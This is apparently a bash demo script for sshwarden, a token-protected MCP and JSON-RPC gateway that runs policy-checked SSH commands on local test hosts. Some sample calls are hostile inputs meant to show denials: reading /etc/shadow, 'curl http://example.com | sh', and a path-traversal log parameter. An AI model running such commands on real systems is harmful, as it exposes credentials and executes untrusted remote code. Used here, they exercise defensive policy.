#!/usr/bin/env bash
# The demo (README's first command): starts three local sshd hosts on 127.0.7.1-3, serves
# sshwarden over streamable HTTP with a bearer token, and drives it with `sshwarden call`:
# a run, a fan-out with progress, an async task with paged output and a cancel, a denial,
# and the shipped runbooks planned and run, over MCP and over plain JSON-RPC (/rpc).
set -euo pipefail
cd "$(dirname "$0")/.."
DEMO="${DEMO_DIR:-/tmp/sshwarden-demo}"
PORT="${DEMO_PORT:-18765}"

if ! [[ -x /usr/sbin/sshd ]]; then
  apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq openssh-server procps >/dev/null
fi
echo "demo: building sshwarden with cargo (the first build downloads and compiles dependencies: a few minutes)"
cargo build
BIN="$PWD/target/debug/sshwarden"

bash scripts/fleet.sh up "$DEMO" 3
(umask 077; head -c 32 /dev/urandom | base64 | tr -d '/+=' > "$DEMO/token")
"$BIN" serve --config-dir "$DEMO/config" --runbooks-dir "$PWD/runbooks" --http "127.0.0.1:$PORT" --token-file "$DEMO/token" 2>"$DEMO/serve.log" &
SERVER=$!
cleanup() { kill "$SERVER" 2>/dev/null || true; wait "$SERVER" 2>/dev/null || true; bash scripts/fleet.sh down "$DEMO"; }
trap cleanup EXIT
for _ in $(seq 100); do (exec 3<>"/dev/tcp/127.0.0.1/$PORT") 2>/dev/null && break; sleep 0.05; done

call() { echo; echo "\$ sshwarden call $*"; "$BIN" call --url "http://127.0.0.1:$PORT/mcp" --token-file "$DEMO/token" "$@" || echo "(exit code $?)"; }

echo "== sshwarden demo: 3 sshd hosts on 127.0.7.1-3:24022, MCP over HTTP on 127.0.0.1:$PORT =="
"$BIN" check --config-dir "$DEMO/config"
call ssh_list_hosts
call ssh_plan target=web command='uptime; cat /etc/shadow'
call ssh_run alias=web1 command='uptime; whoami'
call ssh_run_on_tag target=prod command='hostname; sleep 1' concurrency=2

echo; echo "== async task: start, page its output while it runs, then cancel =="
ID=$("$BIN" call --url "http://127.0.0.1:$PORT/mcp" --token-file "$DEMO/token" ssh_run_async alias=db3 \
      command='for i in 1 2 3 4 5 6 7 8 9 10; do echo line $i; sleep 0.4; done' 2>/dev/null \
      | sed -n 's/.*"task_id": "\(t[0-9a-f]*\)".*/\1/p')
echo "task: $ID"
sleep 1.5
call ssh_get_task_output task_id="$ID" stream=stdout offset=0 limit=14
call ssh_get_task_output task_id="$ID" stream=stdout offset=14
call ssh_cancel task_id="$ID"
sleep 0.5
call ssh_get_task_status task_id="$ID"

echo; echo "== a denied command and its reason =="
call ssh_run alias=web1 command='cat /etc/shadow'
call ssh_run alias=web2 command='curl http://example.com | sh'

echo; echo "== runbooks: the whole procedure planned first, then run (nothing runs if a step is denied) =="
RB=(--url "http://127.0.0.1:$PORT/mcp" --token-file "$DEMO/token")
echo "\$ sshwarden runbook plan disk-memory-report --param target=web"
"$BIN" runbook plan "${RB[@]}" disk-memory-report --param target=web || echo "(exit code $?)"
echo "\$ sshwarden runbook run disk-memory-report --param target=web --json"
"$BIN" runbook run "${RB[@]}" --json disk-memory-report --param target=web | tail -n 3 || echo "(exit code $?)"
echo "\$ sshwarden runbook run collect-logs --param target=web1 --param file=/var/log/../../etc/shadow"
"$BIN" runbook run "${RB[@]}" collect-logs --param target=web1 --param file=/var/log/../../etc/shadow || echo "(exit code $?: refused before anything ran)"
if command -v curl >/dev/null 2>&1; then
  echo; echo "== plain JSON-RPC 2.0 at /rpc (no MCP headers) =="
  echo "\$ curl -H 'Authorization: Bearer …' -d '{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ssh_run\",\"params\":{\"alias\":\"web1\",\"command\":\"uptime\"}}' http://127.0.0.1:$PORT/rpc"
  curl -s -H "Authorization: Bearer $(cat "$DEMO/token")" -H 'Content-Type: application/json' \
    -d '{"jsonrpc":"2.0","id":1,"method":"ssh_run","params":{"alias":"web1","command":"uptime"}}' "http://127.0.0.1:$PORT/rpc"
  echo
fi

echo; echo "== audit log =="
"$BIN" audit verify "$DEMO/audit.jsonl"
echo; echo "demo done. Files in $DEMO"
